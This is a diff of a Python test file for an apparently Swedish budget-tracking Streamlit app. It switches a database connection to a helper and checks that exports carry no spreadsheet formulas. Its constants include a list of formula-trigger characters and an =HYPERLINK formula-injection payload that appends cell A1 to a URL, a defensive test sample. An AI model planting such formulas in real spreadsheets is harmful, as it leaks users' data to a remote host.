@@ -10,7 +10,6 @@ import csv
 import io
 import re
 
-import duckdb
 import openpyxl
 import polars as pl
 import pytest
@@ -23,7 +22,7 @@ from streamlit.testing.v1 import AppTest
 from uppfoljning import export, uppladdning
 from uppfoljning.behorighet import Anvandare
 
-from .conftest import DASHBOARD
+from .conftest import DASHBOARD, skriv
 
 FARLIGA = ("=", "+", "-", "@", "\t", "\r")
 HYPERLANK = '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Klicka här")'
@@ -130,7 +129,7 @@ def _kontrollera_csv(innehall: bytes, namn: str) -> set[str]:
 
 
 def test_lasarens_nedladdningar_och_motesunderlaget_bar_inga_formler(app_databas, monkeypatch, tmp_path, filer):
-    with duckdb.connect(str(app_databas)) as con:
+    with skriv(app_databas) as con:
         uppladdning.las_in(con, _budgetfil(), "budget-formler.xlsx", "budget", "test", ersatt=True)
         assert sorted(r[0] for r in con.execute("SELECT post FROM budget WHERE period = 2020").fetchall()) == \
             sorted(LAGRADE + ["Medlemsavgifter"])
